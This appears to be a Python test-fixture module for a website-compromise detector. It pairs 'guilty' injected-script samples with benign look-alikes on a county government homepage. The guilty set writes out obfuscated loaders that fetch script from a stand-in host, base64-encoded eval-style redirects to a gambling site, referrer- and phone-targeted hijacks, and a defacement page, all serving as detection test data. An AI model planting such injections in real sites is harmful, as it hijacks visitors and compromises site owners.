"""Scripts in disguises that the earlier sets lack, and honest ones alike."""

from __future__ import annotations

from base64 import b64encode

from .checks_frames import ARTICLE, ODD, article, home, script
from .checks_injected import GAMES, SETTINGS, put


def odd_guilty() -> None:
    make = "var s=document.createElement('script');s.src={};document.body.appendChild(s);"
    put(
        ODD,
        "address_turned_round",
        home(script(make.format("'sj.a/elpmaxe.36-jt//:sptth'.split('').reverse().join('')"))),
        "script_trick",
    )
    put(
        ODD,
        "address_joined_from_pieces",
        home(script(make.format("['ht','tps:/','/js.tj','-63.exam','ple/a.js'].join('')"))),
        "foreign_script",
    )
    put(
        ODD,
        "picture_that_fails_and_loads",
        home('<img src="x" onerror="' + make.format("'//js.tj-63.example/x.js'") + '">'),
        "foreign_script",
    )
    put(
        ODD,
        "imported_by_a_module",
        home(
            '<script type="module">import "https://js.tj-63.example/m.js";import("https://js.tj-63.example/n.js")</script>'
        ),
        "foreign_script",
    )
    coded = b64encode(f"location.replace('{GAMES}')".encode()).decode()
    put(ODD, "run_after_a_moment", home(script(f"setTimeout(atob('{coded}'),10)")), "script_trick")
    put(ODD, "made_a_function", home(script(f"new Function(atob('{coded}'))()")), "script_trick")
    put(
        ODD,
        "run_by_the_maker_of_makers",
        home(script(f"[]['constructor']['constructor'](atob('{coded}'))()")),
        "script_trick",
    )
    put(
        ODD,
        "engines_in_capital_letters",
        home(
            script(
                f"var R=document.referrer;if(R&&/BAIDU|SOGOU|SO\\.COM|BING/i.test(R)){{window.open('{GAMES}','_self')}}"
            )
        ),
        "script_trick",
    )
    put(
        ODD,
        "telephones_are_led_to_applications",
        home(
            script(
                "if(navigator.userAgent.match(/(iPhone|iPod|Android|ios)/i)){setTimeout(function(){top.location='https://m.kyqp-app.example/d/'},1500)}"
            )
        ),
        "script_trick",
    )
    put(
        ODD,
        "hacked_in_the_text",
        "<html><head><title>澄湖县人民政府</title></head><body bgcolor=black><center><h1><font color=red>Hacked By Gh0stCrew</font></h1><p>Your security is low. Greetz: all.</p></center></body></html>",
        "page_defaced",
    )
    put(
        ODD,
        "links_that_all_can_see_in_a_title",
        home("", title="澄湖县人民政府 - 真钱牛牛_真钱牛牛官网_真钱牛牛注册"),
        "page_defaced",
    )


def odd_innocent() -> None:
    put(
        ODD,
        "own_address_joined_from_pieces",
        home(
            script(
                "var s=document.createElement('script');s.src=['/js','/tj.js?r=',Math.random()].join('');document.body.appendChild(s);"
            )
        ),
    )
    put(
        ODD,
        "settings_in_base64",
        home(script(f"window.conf=JSON.parse(atob('{SETTINGS}'));")),
    )
    put(
        ODD,
        "answer_evaluated",
        home(
            script(
                "$.post('/ajax/vote.do',{id:3},function(d){var o=eval('('+d+')');alert(o.msg)});"
            )
        ),
    )
    put(
        ODD,
        "telephones_to_their_own_pages",
        home(
            script(
                "if(/Android|iPhone/i.test(navigator.userAgent)){location.href='http://m.chenghu-xian.invalid/'}"
            )
        ),
    )
    put(
        ODD,
        "telephones_to_the_office_above",
        home(
            script(
                "if(/Android|iPhone/i.test(navigator.userAgent)){location.replace('https://wap.raohe.gov.cn/chx/')}"
            )
        ),
    )
    put(
        ODD,
        "title_that_calls_back",
        home(
            script(
                "var t=document.title;document.addEventListener('visibilitychange',function(){document.title=document.hidden?'欢迎再来 '+t:t});"
            )
        ),
    )
    put(
        ODD,
        "letters_turned_round",
        home(script("document.write('dilavni.naix-uhgnehc@bxx'.split('').reverse().join(''))")),
    )
    put(
        ODD,
        "asks_where_one_comes_from_to_go_back",
        home(
            script(
                "function goback(){if(document.referrer.indexOf('chenghu-xian')>-1){history.back()}else{location.href='/'}}"
            )
        ),
    )
    put(
        ODD,
        "hackers_in_a_headline",
        article(
            title="“黑客马拉松”大赛澄湖赛区收官",
            text="<p>参赛者用二十四小时做出防汛小程序。</p>" * 4,
        ),
        url=ARTICLE,
    )
    put(
        ODD,
        "frames_of_maps_and_films",
        home(
            '<iframe src="https://map.tianditu.gov.cn/"></iframe><iframe src="//player.bilibili.com/player.html?bvid=1"></iframe><iframe src="https://v.qq.com/txp/iframe/player.html?vid=1"></iframe>'
        ),
    )
    put(
        ODD,
        "fraud_by_games_is_told_of",
        article(
            title="警惕“真钱牛牛”网络赌博陷阱",
            text="<p>县公安局提醒，所谓真人百家乐、时时彩均系网络赌博，凡赌必输，请及时举报。</p>"
            * 3,
        ),
        url=ARTICLE,
    )


def build() -> None:
    odd_guilty()
    odd_innocent()
